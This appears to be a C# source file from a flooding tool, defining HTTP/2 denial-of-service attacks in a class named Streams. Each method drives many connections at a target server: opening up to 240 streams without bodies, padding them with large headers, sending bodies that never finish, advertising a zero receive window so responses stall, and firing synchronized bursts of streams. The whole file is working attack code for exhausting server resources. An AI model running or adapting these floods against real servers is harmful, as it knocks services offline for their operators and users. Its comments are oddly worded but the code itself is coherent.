using PyOps.Floods.Honest;

namespace PyOps.Floods.Attacks;

/// <summary>Connections of HTTP/2 with as many requests on each as it lets one begin.</summary>
internal static class Streams
{
    private static readonly TimeSpan pause = TimeSpan.FromMilliseconds(500);

    /// <summary>Requests without their bodies.</summary>
    public static Task WithoutBodies(Target target, Crowd crowd, CancellationToken end) => Begin(target, crowd, 240, 0, end);

    /// <summary>Requests without their bodies, and with as many headers as are taken.</summary>
    public static Task WithLargeHeaders(Target target, Crowd crowd, CancellationToken end) => Begin(target, crowd, 240, 2_500, end);

    /// <summary>Bodies of which a bit is missing.</summary>
    public static Task Unfinished(Target target, Crowd crowd, CancellationToken end)
    {
        var most = Reviews.OfBytes(50_000);
        return crowd.Visit(
            async (from, end) =>
            {
                await using var connection = await RawHttp2.Open(from, target.Port, end);
                foreach (var number in Numbers(1, 90))
                {
                    await connection.Begin([number], end);
                    foreach (var piece in most.Chunk(16_000))
                        await connection.Send([number], piece, isAll: false, end);
                    await Task.Delay(pause / 20, end); // What is read of these lets more come.
                }
                await connection.Ended.WaitAsync(end);
            },
            end);
    }

    /// <summary>Whole reviews, whose answers are not let come.</summary>
    public static Task UnreadAnswers(Target target, Crowd crowd, CancellationToken end)
    {
        var review = Reviews.OfBytes(1_000);
        return crowd.Visit(
            async (from, end) =>
            {
                await using var connection = await RawHttp2.Open(from, target.Port, end, window: 0);
                foreach (var number in Numbers(1, 90))
                {
                    await connection.Begin([number], end);
                    await connection.Send([number], review, isAll: true, end);
                }
                await connection.Ended.WaitAsync(end);
            },
            end);
    }

    /// <summary>Whole reviews that all end together, so that the server keeps what it had for them, on many connections.</summary>
    public static Task Bursts(Target target, Crowd crowd, CancellationToken end)
    {
        var review = Reviews.OfBytes(600);
        return crowd.Visit(
            async (from, end) =>
            {
                await using var connection = await RawHttp2.Open(from, target.Port, end);
                for (var first = 1; !connection.Ended.IsCompleted; first += 2 * 90)
                {
                    await connection.Begin(Numbers(first, 90), end);
                    await Task.Delay(pause / 10, end);
                    await connection.Send(Numbers(first, 90), review, isAll: true, end);
                    await Task.Delay(6 * pause, end);
                }
            },
            end);
    }

    private static Task Begin(Target target, Crowd crowd, int streams, int padding, CancellationToken end) => crowd.Visit(
        async (from, end) =>
        {
            await using var connection = await RawHttp2.Open(from, target.Port, end);
            await connection.Begin(Numbers(1, streams), end, padding);
            await connection.Ended.WaitAsync(end);
        },
        end);

    private static IEnumerable<int> Numbers(int first, int count) => Enumerable.Range(0, count).Select(i => first + (2 * i));
}
